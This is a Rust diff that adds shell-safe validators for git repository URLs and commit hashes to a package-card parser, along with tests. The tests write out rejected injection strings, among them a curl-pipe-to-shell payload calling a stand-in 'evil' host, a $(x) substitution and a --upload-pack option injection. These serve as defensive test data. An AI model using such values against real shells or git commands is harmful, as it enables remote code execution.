@@ -2,6 +2,8 @@
 //!
 //! Owns: the head of a card, the names of a package, the backend of a variant. Never: runs or trusts any of it.
 
+use kernel_plan::units::GitUrl;
+
 /// The license that a card names in its head.
 pub fn license(card: &str) -> Option<String> {
     let head = card.strip_prefix("---")?.split("\n---").next()?;
@@ -53,6 +55,31 @@ pub fn names(package: &str) -> Vec<String> {
     found
 }
 
+/// Whether people may be told to clone it: the address of a repository that is one word for every shell.
+pub fn is_address(text: &str) -> bool {
+    let plain = |byte: u8| byte.is_ascii_alphanumeric() || b"-_.:/@+~".contains(&byte);
+    text.bytes().all(plain) && !text.starts_with('-') && text.parse::<GitUrl>().is_ok()
+}
+
+/// Whether it is a commit of git.
+pub fn is_commit(text: &str) -> bool {
+    (7..=64).contains(&text.len()) && text.bytes().all(|byte| byte.is_ascii_hexdigit())
+}
+
+/// Words of variants' ids, by how they begin, and the backend that each is of.
+const WORDS: &[(&str, &str)] = &[
+    ("rocm", "rocm"),
+    ("xpu", "xpu"),
+    ("metal", "metal"),
+    ("cann", "cann"),
+    ("npu", "cann"),
+    ("neuron", "neuron"),
+    ("tpu", "tpu"),
+    ("cpu", "cpu"),
+];
+/// The backends that can be looked for.
+pub const BACKENDS: &[&str] = &["cuda", "rocm", "xpu", "metal", "cann", "neuron", "tpu", "cpu"];
+
 /// The backend of a variant, by its id; nothing for one that is for all.
 pub fn backend(variant: &str) -> Option<&'static str> {
     let is_cuda = |word: &str| {
@@ -61,16 +88,6 @@ pub fn backend(variant: &str) -> Option<&'static str> {
                 .strip_prefix("cu")
                 .is_some_and(|rest| !rest.is_empty() && rest.bytes().all(|byte| byte.is_ascii_digit()))
     };
-    const WORDS: &[(&str, &str)] = &[
-        ("rocm", "rocm"),
-        ("xpu", "xpu"),
-        ("metal", "metal"),
-        ("cann", "cann"),
-        ("npu", "cann"),
-        ("neuron", "neuron"),
-        ("tpu", "tpu"),
-        ("cpu", "cpu"),
-    ];
     variant.split('-').skip(1).find_map(|word| {
         let other = || WORDS.iter().find(|(begin, _)| word.starts_with(begin)).map(|(_, name)| *name);
         if is_cuda(word) { Some("cuda") } else { other() }
@@ -113,7 +130,21 @@ mod tests {
     }
 
     #[test]
+    fn what_people_are_told_to_run_is_one_word_for_a_shell() {
+        for fine in ["https://github.com/a/fast-rms", "git@github.com:a/b.git", "ssh://git@host:22/~a/b"] {
+            assert!(is_address(fine), "{fine}");
+        }
+        for bad in
+            ["https://h/a;curl${IFS}evil|sh", "https://h/$(x)", "https://h/a b", "--upload-pack=x", "a/b", ""]
+        {
+            assert!(!is_address(bad), "{bad}");
+        }
+        assert!(is_commit("0123abcd") && !is_commit("c0ffee;x") && !is_commit("main") && !is_commit(""));
+    }
+
+    #[test]
     fn a_variant_says_its_backend() {
+        assert!(WORDS.iter().all(|(_, name)| BACKENDS.contains(name)));
         let cases = [
             ("torch213-cxx11-cu130-x86_64-linux", Some("cuda")),
             ("torch-stable-abi29-cu130-x86_64-linux", Some("cuda")),
